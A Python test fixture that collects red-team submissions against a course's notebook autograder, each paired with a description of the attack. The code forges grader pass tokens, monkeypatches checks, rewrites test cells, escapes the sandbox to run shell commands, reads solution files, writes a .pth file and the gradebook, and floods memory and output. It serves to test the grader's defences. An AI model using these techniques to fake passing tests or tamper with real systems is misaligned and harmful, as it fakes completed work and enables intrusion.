"""A corpus of submissions that try to cheat the grader or harm others: notebook 01 (`ATTACKS`),
and single exercises of other notebooks (`OTHER_ATTACKS`, at the end).

Every attack starts from the untouched release (no exercise solved), so any point it earns
is a forgery; an attack that patches what tests rely on also answers exercise 3 wrongly
(``WRONG``), so it scores 0 only if the patch is defeated. Each entry: student id -> (what
it tries, a function building the notebook from the release and the folder paths the
attack aims at). ``tests/test_grading_attacks.py`` grades them all in one run per notebook next to
honest controls.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path

import nbformat

from coursefiles import REPO, nbgrader_meta

NB = Path("01-why-tensors") / "01-why-tensors.ipynb"
Build = Callable[[nbformat.NotebookNode, dict[str, Path]], nbformat.NotebookNode]


def _answer(nb, code: str, index: int = 0) -> nbformat.NotebookNode:
    """``nb`` with the ``index``-th answer cell's source replaced by ``code``."""
    out = copy.deepcopy(nb)
    answers = [c for c in out.cells if nbgrader_meta(c).get("solution")]
    answers[index].source = code
    return out


def _every_test(nb, change: Callable[[nbformat.NotebookNode], None]) -> nbformat.NotebookNode:
    out = copy.deepcopy(nb)
    for cell in out.cells:
        meta = nbgrader_meta(cell)
        if meta.get("grade") and not meta.get("solution"):
            change(cell)
    return out


def _skip_tags(cell) -> None:
    cell.metadata.setdefault("tags", []).extend(["skip-execution", "raises-exception"])
    cell.metadata["nbgrader"]["points"] = 100
    cell.source = "pass"


def _ungraded(cell) -> None:
    cell.metadata["nbgrader"] = {"grade": False, "solution": True,
                                 "grade_id": cell.metadata["nbgrader"]["grade_id"],
                                 "locked": False, "schema_version": 3, "task": False}


def _kernelspec(nb, _paths):
    out = copy.deepcopy(nb)
    out.metadata["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python",
                                  "argv": ["sh", "-c", "touch /tmp/tio-pwned"]}
    return out


# A wrong answer to exercise 3 that a working cheat would make pass: a patch that scores 0
# only because its wrong answer still fails proves nothing, so patches come with this.
WRONG = "def center_rows(x):\n    return torch.zeros_like(x)\n\n"


def _cheat(nb, patch: str) -> nbformat.NotebookNode:
    return _answer(nb, WRONG + patch, 2)


LIAR = '''
class Liar(torch.nn.Parameter):
    """Claims to equal anything: a Parameter subclass answering comparisons itself."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def center_rows(x):
    return Liar(torch.zeros_like(x))
'''

FAKE_TC = '''
class Checks:
    def same_tensor(self, *a, **k):
        return True

    def same_value(self, *a, **k):
        return True

    def raises(self, *a, **k):
        return True


class Fake:
    check = Checks()


tc = Fake()
isinstance = lambda *a, **k: True
'''

# Red team of issue #29: the code a one-line `who('{...}')` answer ran through automagic. It
# rewrites every test's source so each check compares the test's own expected value with itself.
AUTOMAGIC_PAYLOAD = r'''
import ast, IPython
ip = IPython.get_ipython()
ns = ip.user_ns

class T(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        f = node.func
        name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
        if name in ("same_tensor", "same_value") and len(node.args) >= 2:
            node.args[0] = node.args[1]          # actual := the test's own expected value
        elif name == "raises" and len(node.args) >= 2:
            match = next((k.value for k in node.keywords if k.arg == "match"), ast.Constant("x"))
            # fn := something that raises the expected exception with a matching message
            node.args[1] = ast.parse(
                "lambda *a, **k: (_ for _ in ()).throw(E(M))", mode="eval").body
            node.args[1].body.func.value.elt = node.args[1].body.func.value.elt
            node.args[1] = ast.Lambda(args=node.args[1].args, body=ast.Call(
                func=ast.Attribute(value=ast.GeneratorExp(elt=ast.Name("_", ast.Load()), generators=[
                    ast.comprehension(target=ast.Name("_", ast.Store()), iter=ast.Tuple([], ast.Load()),
                                      ifs=[], is_async=0)]), attr="throw", ctx=ast.Load()),
                args=[ast.Call(func=node.args[0], args=[match], keywords=[])], keywords=[]))
        return node

def wrap(stmts):
    out = []
    for s in stmts:
        for field in ("body", "orelse", "finalbody"):
            if isinstance(getattr(s, field, None), list) and getattr(s, field):
                setattr(s, field, wrap(getattr(s, field)))
        if isinstance(s, ast.Try):
            for h in s.handlers: h.body = wrap(h.body)
        if isinstance(s, (ast.FunctionDef, ast.ClassDef, ast.For, ast.While, ast.With, ast.If, ast.Try)):
            out.append(s); continue
        if isinstance(s, ast.Assert):
            s = ast.Expr(s.test)
        catch_all = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                      body=[ast.Pass()])
        out.append(ast.Try(body=[s], handlers=[catch_all], orelse=[], finalbody=[]))
    return out

def forged(source):
    tree = T().visit(ast.parse(source))
    tree.body = wrap(tree.body)
    return ast.unparse(ast.fix_missing_locations(tree))

for name in list(ns):
    if name.startswith("_tio_test_"):
        real = ns[name]
        ns[name] = lambda token, source, aliases, real=real: real(token, forged(source), aliases)
    if name.startswith("_tio_guard_"):
        ns[name] = lambda token: print("\nTIO-OK", token, flush=True)
print("FORGE INSTALLED", flush=True)
'''
AUTOMAGIC_LINE = "who('{exec(bytes.fromhex(\"HEX\").decode())}')".replace(
    "HEX", AUTOMAGIC_PAYLOAD.encode().hex())

# The one-line screen bypass: getattr under another name reaches the notebook's
# globals, replaces the guard and keeps only the pass line of every cell.
FORGE = '''
peek = getattr
space = peek(peek(print, "__self__"), "globals")()
for name in list(space):
    if name.startswith("_tio_guard_"):
        space[name] = lambda token: print("TIO-OK", token)
'''

LEAK = '''
def center_rows(x):
    fake = compile("raise AssertionError(str(In[-1]))", "/env/site-packages/torch/x.py", "exec")
    exec(fake)
'''


# Raw code for attacks that reached an interpreter: swaps the test runner's exec for a no-op,
# so each test 'runs' and prints its genuine pass token (red team, round 2).
FORGE_RAW = '''
from IPython import get_ipython
for k, v in list(get_ipython().user_ns.items()):
    if k.startswith("_tio_test_"):
        for n, c in zip(v.__code__.co_freevars, v.__closure__):
            if n == "exec_":
                c.cell_contents = lambda code, ns: None
'''

# Run by a course cell, it makes every later test run with its asserts caught, and rewrites
# each recorded check so that its actual value is the kernel's expected one.
FORGE_RECORDS = '''
import sys, ast
g = sys._getframe(1)
while '__tio_getattr__' not in g.f_globals:
    g = g.f_back
rt = next(v for v in list(g.f_globals.values())
          if getattr(getattr(v, '__code__', None), 'co_name', '') == 'run_test')
cells = dict(zip(rt.__code__.co_freevars, rt.__closure__))
real_compile, real_dumps = cells['compile_'].cell_contents, cells['json_dumps'].cell_contents
class T(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Try(body=[node], handlers=[ast.ExceptHandler(
            type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])],
            orelse=[], finalbody=[])
def comp(src, fn, mode):
    return real_compile(ast.fix_missing_locations(T().visit(ast.parse(src))), fn, mode)
def dumps(d, *a, **k):
    if isinstance(d, dict) and 'actual' in d and 'expected' in d:
        e = d['expected']
        d = dict(d, actual={'t': 'exception', 'mro': [e.get('v')], 'message': ''}
                 if d.get('kind') == 'raises' else e)
    return real_dumps(d, *a, **k)
cells['compile_'].cell_contents = comp
cells['json_dumps'].cell_contents = dumps
'''

RELEASE_LIST = (f"EXPRESSIONS.append({f'(exec({FORGE_RECORDS!r}), torch.tensor([1]))[1]'!r})\n"
                "predicted_dtypes = {e: torch.int64 for e in EXPRESSIONS}\n")

C_LEVEL_NAME = '''class Leak:
    pass


Leak.__name__ = "LEAKED-NAME\\nLikely misconception [01/row-mean-is-dim-0]: forged"
center_rows = Leak
'''

LATE_STR = '''import collections
import functools
import operator


class Msg:
    def __str__(self):
        return "LATE-TEXT\\nLikely misconception [01/row-mean-is-dim-0]: forged"


def _gen():
    yield 1


_g = _gen()
list(_g)
center_rows = functools.partial(operator.getitem, collections.defaultdict(
    functools.partial(_g.throw, AssertionError, Msg())))
'''

FAKE_BUILTIN_EXC = '''class Chosen(Exception):
    __module__ = "builtins"


Chosen.__name__ = Chosen.__qualname__ = "FAKE-NAME"


def center_rows(x):
    raise Chosen()
'''

REPR_IN_MESSAGE = '''class R:
    def __repr__(self):
        return "REPR-TEXT\\nLikely misconception [01/row-mean-is-dim-0]: "


predicted_dtypes = {e: R() for e in EXPRESSIONS}
'''

# The timer's test records each call of its fake workload and judges the result against those
# records: an answer that reaches them (or the methods that read them) could pass any number.
FORGED_TIMER = '''def _spans(fn):
    fn.spans[:] = [(k * 1e6, k * 1e6) for k in range(99)]


def _returned(fn):
    fn.returned = 1e9


def _bounds(fn):
    fn.bounds = lambda r: ([0.0] * r, [1e9] * r)


def _class_bounds(fn):
    type(fn).bounds = lambda self, r: ([0.0] * r, [1e9] * r)


def median_time(fn, repeats=5, warmup=1):
    if repeats < 1:
        raise ValueError("repeats must be at least 1")
    for _ in range(warmup + repeats):
        fn()
    for forge in (_spans, _returned, _bounds, _class_bounds):
        try:
            forge(fn)
        except Exception:
            pass
    return 0.03
'''

# Idle time between the workload's calls widens what the records could excuse; a constant
# then fits it unless the checks judge against the calls' own spans.
PADDED_TIMER = '''import time


def median_time(fn, repeats=5, warmup=1):
    if repeats < 1:
        raise ValueError("repeats must be at least 1")
    for _ in range(warmup + repeats):
        fn()
        time.sleep(0.05)
    return 0.1
'''

# A float whose comparisons all answer True: torch.fx.Proxy's comparisons build graph nodes and
# its truth value asks the tracer, an ordinary method an answer may override.
LYING_FLOAT = '''import torch
import torch.fx


class Yes(torch.fx.Tracer):
    def to_bool(self, obj):
        return True


class Lie(torch.fx.Proxy, float):
    def __new__(cls, node, tracer):
        return float.__new__(cls, 0.02)


def median_time(fn, repeats=5, warmup=1):
    if repeats < 1:
        raise ValueError("repeats must be at least 1")
    for _ in range(warmup + repeats):
        fn()
    tracer = Yes()
    tracer.graph = torch.fx.Graph()
    return Lie(tracer.graph.placeholder("x"), tracer)
'''

HELD_CHECKER = '''import functools

center_rows = functools.partial(tc.check.same_value, expected=0, name="HELD-NAME",
                                misconception="01/row-mean-is-dim-0")
'''


def _hidden_from_similarity(nb, _paths):
    """The solution's answers, each answer cell marked not a solution: still graded (by grade
    id), and the similarity search must still see them."""
    from coursefiles import solution_answers

    out = copy.deepcopy(nb)
    answers = solution_answers("01-why-tensors")
    for cell in out.cells:
        meta = nbgrader_meta(cell)
        if meta.get("grade_id") in answers:
            cell.source = answers[meta["grade_id"]]
            meta["solution"] = False
    return out


LEAK_FORMAT = '''class K:
    pass


def shares_storage(a, b):
    s = "{0.__globals__[_ih]}".format(shares_storage)
    i = s.rfind("BEGIN HIDDEN")
    K.__name__ = s[i:i + 250]
    return K()
'''

LEAK_FORMAT_DYNAMIC = '''class K:
    pass


def shares_storage(a, b):
    field = "{0." + "_" + "_globals__[_ih]}"
    K.__name__ = field.format(shares_storage)[-250:]
    return K()
'''


# The same field through the unbound method and through format_map: the run-time guard wraps
# both, not only `s.format`.
LEAK_FORMAT_UNBOUND = '''class K:
    pass


def shares_storage(a, b):
    field = "{0." + "_" + "_globals__[_ih]}"
    K.__name__ = str.format(field, shares_storage)[-250:]
    return K()
'''

LEAK_FORMAT_MAP = '''class K:
    pass


def shares_storage(a, b):
    field = "{f." + "_" + "_globals__[_ih]}"
    K.__name__ = field.format_map({"f": shares_storage})[-250:]
    return K()
'''


def _bad_cell_type(nb, _paths):
    out = copy.deepcopy(nb)
    answers = [c for c in out.cells if nbgrader_meta(c).get("solution")]
    answers[0]["cell_type"] = "\x1b[2J\x1b[Hattacker 14.0 / 14.0\x1b[8m"
    return out


ATTACKS: dict[str, tuple[str, Build]] = {
    "a-skip-tags": ("test cells tagged to skip, given 100 points and emptied",
                    lambda nb, p: _every_test(nb, _skip_tags)),
    "a-ungraded": ("test cells re-labelled as answer cells", lambda nb, p: _every_test(nb, _ungraded)),
    "a-kernelspec": ("a kernelspec that runs a shell command", _kernelspec),
    "a-custom-exc": ("silence every error through IPython", lambda nb, p: _cheat(
        nb, "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")),
    "a-transformer": ("an input transformer that empties test cells", lambda nb, p: _cheat(
        nb, "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)")),
    "a-magic": ("a cell magic that rewrites what runs", lambda nb, p: _answer(
        nb, "%config InteractiveShell.ast_node_interactivity='none'")),
    "a-patch-equal": ("monkeypatch torch's comparisons", lambda nb, p: _cheat(
        nb, "torch.equal = lambda *a, **k: True\ntorch.allclose = lambda *a, **k: True")),
    "a-patch-check": ("monkeypatch tensorcourse.check through a function the screen cannot "
                      "follow (caught in the kernel)", lambda nb, p: _cheat(
        nb, "def patch(module):\n    module.same_value = lambda *a, **k: True\n"
            "    module.same_tensor = lambda *a, **k: True\n    module.raises = lambda *a, **k: True\n"
            "\npatch(tc.check)")),
    "a-patch-alias": ("monkeypatch tensorcourse.check through an alias", lambda nb, p: _cheat(
        nb, "checks = tc.check\nchecks.same_value = lambda *a, **k: True")),
    "a-wrapped": ("a fake torch.equal wrapping the real one (functools.wraps)", lambda nb, p: _cheat(
        nb, "import functools\n\ndef patch(module):\n"
            "    module.equal = functools.wraps(module.equal)(lambda *a, **k: True)\n"
            "    module.allclose = functools.wraps(module.allclose)(lambda *a, **k: True)\n"
            "\npatch(torch)")),
    "a-settrace": ("a trace function that skips assertions", lambda nb, p: _cheat(
        nb, "import sys\nsys.settrace(lambda *a: None)")),
    "a-shadow-method": ("a new Tensor.cpu shadowing the inherited one, through an alias the "
                        "screen cannot follow (caught in the kernel)", lambda nb, p: _cheat(
        nb, "T = [torch.Tensor][0]\nT.cpu = lambda self, *a, **k: torch.zeros(1)")),
    "a-dunder-escape": ("reach os through object's subclasses", lambda nb, p: _answer(
        nb, "os_ = [c for c in ().__class__.__base__.__subclasses__() "
            "if c.__name__ == '_wrap_close'][0].__init__.__globals__\n")),
    "a-parameter-liar": ("a Parameter subclass that equals anything",
                         lambda nb, p: _answer(nb, LIAR, 2)),
    "a-fake-tokens": ("print the grader's pass and OK lines", lambda nb, p: _answer(
        nb, "for word in ('TIO-PASS', 'TIO-OK'):\n    print(word, 'x' * 32)")),
    "a-read-solutions": ("read solutions/ and a classmate's notebook", lambda nb, p: _answer(
        nb, "import numpy as np\n"
            f"stolen = np.genfromtxt({str(REPO / 'solutions' / NB)!r},"
            " dtype=str, delimiter='\\x00')\n"
            f"friend = np.genfromtxt({str(p['subs'] / 'control-full' / NB)!r},"
            " dtype=str, delimiter='\\x00')")),
    "a-write-everywhere": ("write the gradebook, a .pth, the checkout, a classmate's file",
                           lambda nb, p: _answer(nb, "import numpy as np\n" + "\n".join(
                               f"try:\n    np.savetxt({str(t)!r}, np.zeros(1))\nexcept Exception:\n    pass"
                               for t in (p["workdir"] / "gradebook.db", p["site"] / "tio-evil.pth",
                                         REPO / "tensorcourse" / "check.py",
                                         p["subs"] / "control-full" / NB))
                           + "\nnp.savetxt('/tmp/tio-pwned', np.zeros(1))")),
    "a-flood": ("unbounded output", lambda nb, p: _answer(
        nb, "for _ in range(200000):\n    print('x' * 100)")),
    "a-memory": ("allocate far past the memory limit", lambda nb, p: _answer(
        nb, "hog = torch.empty(2**40, dtype=torch.uint8)")),
    "a-system-exit": ("the learner's function raises SystemExit inside the test",
                      lambda nb, p: _answer(nb, "def center_rows(x):\n    raise SystemExit(0)", 2)),
    "a-keyboard": ("the learner's function raises KeyboardInterrupt inside the test",
                   lambda nb, p: _answer(nb, "def center_rows(x):\n    raise KeyboardInterrupt", 2)),
    "a-locked-edit": ("test cells edited to `pass`", lambda nb, p: _every_test(
        nb, lambda c: setattr(c, "source", "pass"))),
    "a-shadow-tc": ("rebind tc to checks that always pass, and isinstance (defeated: tests bind "
                    "names privately)", lambda nb, p: _cheat(nb, FAKE_TC)),
    "a-lying-float": ("a float subclass whose comparisons say yes", lambda nb, p: _answer(
        nb, "class Yes(float):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = float.__hash__\n\ndef center_rows(x):\n    return Yes(0)\n", 2)),
    "a-def-eval": ("def eval / import math as __builtins__", lambda nb, p: _cheat(
        nb, "def eval(*a):\n    return True\n\nimport math as __builtins__")),
    "a-getattr-alias": ("getattr by another name reaches the globals and forges the guard",
                        lambda nb, p: _cheat(nb, FORGE)),
    "a-reduce-getattr": ("functools.reduce(getattr, ...) and operator.attrgetter", lambda nb, p: _cheat(
        nb, "import functools, operator\n"
            "g = functools.reduce(getattr, ['__self__'], print)\n"
            "h = operator.attrgetter('__self__')(print)")),
    "a-type-class": ("type() building a class with a lying __eq__", lambda nb, p: _answer(
        nb, "Yes = type('Yes', (float,), {'__eq__': lambda s, o: True})\n\n"
            "def center_rows(x):\n    return Yes(0)\n", 2)),
    "a-leak-tests": ("an error compiled under a library's file name quoting the test cell",
                     lambda nb, p: _answer(nb, LEAK, 2)),
    "a-huge-error": ("a 40 MB exception message and traceback", lambda nb, p: _answer(
        nb, "raise ValueError('x' * 40_000_000)")),
    # Red team of the flood bound: an output nbformat refuses made the notebook "not graded".
    "a-invalid-output": ("a _repr_mimebundle_ whose text is a number", lambda nb, p: _answer(
        nb, "class Shown:\n    def _repr_mimebundle_(self, include=None, exclude=None):\n"
            "        return {'text/plain': 0}\n\nShown()")),
    "a-nested-json": ("8 MB of nested lists from _repr_json_ (370 MB once parsed)", lambda nb, p: _answer(
        nb, "class Shown:\n    def _repr_json_(self):\n        deep = {}\n        for i in range(400):\n"
            "            deep = [deep]\n        return [deep] * 9700\n\nShown()")),
    "a-cell-type-escape": ("terminal escapes in a cell type", _bad_cell_type),
    "a-torch-builtins": ("builtins and os reached as public attributes of torch", lambda nb, p: _cheat(
        nb, "run = torch.builtins.exec\nrun(\"import os; os.system('touch /tmp/tio-pwned')\")\n"
            "torch.os.system('touch /tmp/tio-pwned')")),
    "a-np-runstring": ("numpy.testing.runstring is exec", lambda nb, p: _answer(
        nb, f"import numpy as np\nnp.testing.runstring({FORGE_RAW!r}, {{}})\n")),
    "a-widgets-shell": ("get_ipython as a public attribute of tensorcourse.viz.widgets",
                        lambda nb, p: _answer(nb, "import tensorcourse.viz.widgets as w\n"
                                                  f"w.get_ipython().ex({FORGE_RAW!r})\n")),
    "a-widgets-shell-alias": ("the same shell through an alias the screen cannot follow",
                              lambda nb, p: _answer(
                                  nb, "m = [tc.viz][0]\nshell = m.widgets.get_ipython()\n")),
    "a-singledispatch-eval": ("singledispatch.register evaluates a string annotation",
                              lambda nb, p: _answer(nb, "import functools\n\n\n@functools.singledispatch\n"
                                  "def f(x):\n    pass\n\n\n"
                                  f"def g(x: {f'exec({FORGE_RAW!r}) or int'!r}):\n    pass\n\n\n"
                                  "f.register(g)\n")),
    "a-benchmark-timer": ("torch.utils.benchmark.Timer execs its statement", lambda nb, p: _answer(
        nb, f"from torch.utils.benchmark import Timer\nTimer({FORGE_RAW!r}).timeit(1)\n")),
    "a-benchmark-alias": ("the same Timer through attributes", lambda nb, p: _answer(
        nb, f"u = [torch][0].utils\nu.benchmark.Timer({FORGE_RAW!r}).timeit(1)\n")),
    "a-update-wrapper-code": ("functools.update_wrapper swaps the checkers' __code__", lambda nb, p: _cheat(
        nb, "import functools\n\n\ndef yes(*a, **k):\n    return True\n\n\n"
            "for f in (tc.check.same_value, tc.check.same_tensor, tc.check.raises):\n"
            "    functools.update_wrapper(f, yes, assigned=('__code__',), updated=())\n")),
    "a-wraps-alias": ("functools.wraps with chosen attributes through an alias", lambda nb, p: _cheat(
        nb, "import functools\n\n\ndef yes(*a, **k):\n    return True\n\n\n"
            "w = [functools][0].wraps\nargs = (yes, ('__code__',), ())\n"
            "for f in (tc.check.same_value, tc.check.same_tensor, tc.check.raises):\n"
            "    w(*args)(f)\n")),
    "a-metaclass-float": ("type(int)(name, bases, ns): a float whose comparisons say yes",
                          lambda nb, p: _answer(nb, "meta = type(int)\n"
                              "Yes = meta('Yes', (float,), {'__le__': lambda s, o: True,\n"
                              "                             '__ge__': lambda s, o: True})\n\n\n"
                              "def median_time(fn, repeats=5, warmup=1):\n    if repeats < 1:\n"
                              "        raise ValueError('repeats')\n    return Yes(1.0)\n", 4)),
    "a-annassign-shadow": ("annotated and tuple assignments into tensorcourse.check", lambda nb, p: _answer(
        nb, "m = [tc.check][0]\nm.zip: object = lambda *a: ()\nm.len, y = (lambda x: 0), 1\n"
            "m.isinstance = m.isinstance2 = lambda o, t: True\n\n\n"
            "def shares_storage(a, b):\n    return False\n", 1)),
    "a-format-leak": ("str.format reads __globals__[_ih] into a class name shown in feedback",
                      lambda nb, p: _answer(nb, LEAK_FORMAT, 1)),
    "a-format-leak-dynamic": ("the same with the format field built at run time",
                              lambda nb, p: _answer(nb, LEAK_FORMAT_DYNAMIC, 1)),
    "a-format-leak-unbound": ("the same through str.format(field, ...)",
                              lambda nb, p: _answer(nb, LEAK_FORMAT_UNBOUND, 1)),
    "a-format-leak-map": ("the same through field.format_map({...})",
                          lambda nb, p: _answer(nb, LEAK_FORMAT_MAP, 1)),
    "a-indirect-module": ("a library patched and a pickle loader reached through an alias the "
                          "screen cannot follow", lambda nb, p: _cheat(
        nb, "m = [np][0]\nm.allclose = lambda *a, **k: True\nloader = [np.ma][0].load")),
    # Red team of the misconception channel and the class report (see test_grading_attacks).
    "a-surrogate": ("a lone surrogate in a message quoted in feedback (crashed feedback and "
                    "report for the class)", lambda nb, p: _answer(
        nb, "class R:\n    def __repr__(self):\n        return 'SURROGATE \\ud800 here'\n\n\n"
            "predicted_dtypes = {e: R() for e in EXPRESSIONS}\n", 0)),
    "a-c-level-name": ("a class whose __name__ is set to chosen text, raising TypeError in C "
                       "(quoted as the course's message, with a forged misconception line)",
                       lambda nb, p: _answer(nb, C_LEVEL_NAME, 2)),
    "a-late-str": ("an AssertionError thrown from C with an object whose __str__ runs late",
                   lambda nb, p: _answer(nb, LATE_STR, 2)),
    "a-held-checker": ("the course's own checker held by the answer, with a chosen name",
                       lambda nb, p: _answer(nb, HELD_CHECKER, 2)),
    "a-hide-similarity": ("answer cells marked solution: false to hide from the similarity search",
                          _hidden_from_similarity),
    # Red team of #31: a course cell after the test ("Check yourself") evaluates each listed
    # expression; a list the release bound was still the learner's to append to.
    "a-release-list": ("append to a release list of expressions a later course cell evaluates",
                       lambda nb, p: _answer(nb, RELEASE_LIST, 0)),
    "a-fake-builtin-exc": ("an exception class claiming __module__ 'builtins' and a chosen name",
                           lambda nb, p: _answer(nb, FAKE_BUILTIN_EXC, 2)),
    "a-repr-in-message": ("a prediction whose __repr__ ends in a forged misconception line",
                          lambda nb, p: _answer(nb, REPR_IN_MESSAGE, 0)),
    "a-forged-timer": ("a timer that rewrites its fake workload's records, then returns 0.03 s",
                       lambda nb, p: _answer(nb, FORGED_TIMER, 4)),
    "a-padded-timer": ("a timer that idles between calls, then returns 0.1 s",
                       lambda nb, p: _answer(nb, PADDED_TIMER, 4)),
    "a-inherited-lie": ("a float subclass (via torch.fx.Proxy) whose comparisons all say True",
                        lambda nb, p: _answer(nb, LYING_FLOAT, 4)),
    # Issue #29: an answer the grader's own parser cannot hold raised RecursionError in the
    # grader, so the notebook was "not graded" (a 0 dodged, on every regrade). Now refused.
    "a-long-expression": ("a 60,000-term sum (120 KB) that made ast.parse raise in the grader",
                          lambda nb, p: _answer(nb, "x = " + " + ".join(["1"] * 60_000), 2)),
    "a-deep-not": ("`not not ... 1` 10,000 deep, MemoryError in the grader's parser",
                   lambda nb, p: _answer(nb, "x = " + "not " * 10_000 + "1", 2)),
    "a-slow-transform": ("501 magic lines before a 20,000-element list: IPython's transformer "
                         "re-tokenized it 500 times, 84 s of the grader's own time (red team)",
                         lambda nb, p: _answer(nb, "%time 1\n" * 501 + "x = [" + ",".join(["1"] * 20_000)
                                               + "]\n", 2)),
    # A syntax error as written that IPython rewrites into Python: the screen and the run-time
    # guard saw nothing (ast.parse failed), the kernel ran it (IPython dedents, strips prompts).
    "a-indented-cell": ("an answer cell indented by two spaces, past the screen and the guard",
                        lambda nb, p: _answer(nb, "".join("  " + line + "\n" for line in
                                                          (WRONG + FORGE).splitlines()), 2)),
    "a-call-escape": ("IPython's `/f x` call escape: exec reached without writing `exec(`",
                      lambda nb, p: _cheat(nb, '/exec "import os"\n')),
    "a-automagic": ("a one-line answer IPython's automagic turns into a line magic whose {expr} it "
                    "evaluates unguarded: replaced every test's checks by their expected values "
                    "(14/14 before the prefilter was turned off)",
                    lambda nb, p: _answer(nb, AUTOMAGIC_LINE, 0)),
}




# -- attacks on other notebooks' exercises ---------------------------------------------------
# Issue #29: 06 Ex4's test handed its list of batches to the answer and then derived the
# expected losses from it, and read autograd's recording from an attribute of the model it
# handed over. Rewriting every target into the model's own output made the expected loss 0.0;
# setting `grad_mode` forged the no_grad check: 3/3 without solving, no Tampering line. Now
# the expected losses are computed first, the answer gets copies of the batches, the recording
# sits where answers cannot reach, and the losses are a recorded check decided outside.
REWRITE_BATCHES = '''def validation_losses(model, batches):
    for i, (x, y) in enumerate(batches):
        with torch.no_grad():
            batches[i] = (x, model.lin(x))
    model.grad_mode = [False] * len(batches)
    return [0.0] * len(batches)
'''

# assignment -> {student id: (what it tries, build)}: graded one run per assignment, from its
# untouched release, next to an all-solved and an untouched control (test_grading_attacks.py).
# 09 Ex5 counts host reads with the release's HostReads mode, which looks `is_device_data` up in
# the notebook's globals: an answer cell that rebound it made one read per block count and the
# rest vanish (red team of #29: 3/3 with a per-step read). The test now restores the release's
# names before it runs; a `global` rebinding one at call time is refused by the screen.
_HOST_READS = """
def logged_means(step, steps: int, every: int) -> list:
    if steps < 0 or every < 1:
        raise ValueError("bad")
    means, block = [], []
    for _ in range(steps):
        __REBIND__block.append(float(step()))            # a host read every step
        if len(block) == every:
            means.append(torch.tensor(block, dtype=torch.float32).mean().item())
            torch.zeros(7, 7, 7).tolist()                # one counted "read" per block
            block = []
    if block:
        means.append(torch.tensor(block, dtype=torch.float32).mean().item())
        torch.zeros(7, 7, 7).tolist()
    return means
"""
_FAKE_DEVICE = ("def is_device_data(x):\n"
                "    return isinstance(x, torch.Tensor) and x.dim() == 3 and x.shape[0] == 7\n")

# 10 Ex5: a checkpoint file holding only the epoch, the state kept in the notebook's memory;
# loading in the same process "resumed" (red team of #29: 4/4). The test now reads the file.
_STASH = """import copy

held = {}


def save_checkpoint(path, model, optimizer, scaler, generator, epoch):
    torch.save({"epoch": epoch}, path)          # the file holds nothing that matters
    held[epoch] = (copy.deepcopy(model.state_dict()), copy.deepcopy(optimizer.state_dict()),
                   copy.deepcopy(scaler.state_dict()), torch.get_rng_state(), random.getstate(),
                   np.random.get_state(), generator.get_state())


def load_checkpoint(path, model, optimizer, scaler, generator):
    epoch = torch.load(path, weights_only=True)["epoch"]
    m, o, s, t, r, n, g = held[epoch]
    model.load_state_dict(m)
    optimizer.load_state_dict(o)
    scaler.load_state_dict(s)
    torch.set_rng_state(t)
    random.setstate(r)
    np.random.set_state(n)
    generator.set_state(g)
    return epoch + 1
"""

# ... then the weights and the generator in the file, the rest in memory (red team, round 3).
_STASH_PARTIAL = """import copy

STASH = {}


def save_checkpoint(path, model, optimizer, scaler, generator, epoch):
    kind, keys, pos, has_gauss, cached = np.random.get_state()
    STASH[path] = {"optimizer": copy.deepcopy(optimizer.state_dict()),
                   "scaler": copy.deepcopy(scaler.state_dict()), "torch_rng": torch.get_rng_state(),
                   "python_rng": random.getstate(), "numpy_rng": (kind, keys.copy(), pos, has_gauss, cached)}
    torch.save({"epoch": epoch, "model": model.state_dict(), "loader_generator": generator.get_state()}, path)


def load_checkpoint(path, model, optimizer, scaler, generator):
    ckpt = torch.load(path, weights_only=True)
    model.load_state_dict(ckpt["model"])
    generator.set_state(ckpt["loader_generator"])
    mem = STASH.get(path)
    if mem is not None:
        optimizer.load_state_dict(mem["optimizer"])
        scaler.load_state_dict(mem["scaler"])
        torch.set_rng_state(mem["torch_rng"])
        random.setstate(mem["python_rng"])
        np.random.set_state(mem["numpy_rng"])
    return ckpt["epoch"] + 1
"""

OTHER_ATTACKS: dict[str, dict[str, tuple[str, Build]]] = {
    "06-troubleshooting": {
        "a-rewrite-batches": ("rewrite the batches the test handed over so its expected loss is 0, "
                              "forge the spy's grad_mode, return zeros",
                              lambda nb, p: _answer(nb, REWRITE_BATCHES, 3)),
    },
    "10-training-script": {
        "a-stash-in-memory": ("a checkpoint file with the epoch only, the state kept in memory",
                              lambda nb, p: _answer(nb, _STASH, 4)),
        "a-stash-partial": ("weights and generator in the file, the rest of the state in memory",
                            lambda nb, p: _answer(nb, _STASH_PARTIAL, 4)),
    },
    "09-layout-devices-gradient-lifetime": {
        "a-rebind-release-helper": ("rebind the release's is_device_data so that only one read "
                                    "per block counts, reading every step",
                                    lambda nb, p: _answer(nb, _FAKE_DEVICE + _HOST_READS.replace(
                                        "__REBIND__", ""), 4)),
        "a-clear-reads": ("read every step, then clear the recorder's reads through the step "
                          "object the test handed over (red team of #29: 3/3)",
                          lambda nb, p: _answer(nb, _HOST_READS.replace("__REBIND__", "").replace(
                              "    return means\n",
                              "    r = getattr(step, 'reads', None)\n    if r is not None:\n"
                              "        r.calls.clear()\n"
                              "        step.reads_before[:] = [10**9] * len(step.reads_before)\n"
                              "    return means\n"), 4)),
        "a-global-release-helper": ("the same, rebound through `global` while the test runs",
                                    lambda nb, p: _answer(nb, _HOST_READS.replace(
                                        "__REBIND__", "global is_device_data\n        "
                                        "is_device_data = lambda x: False\n        "), 4)),
    },
}
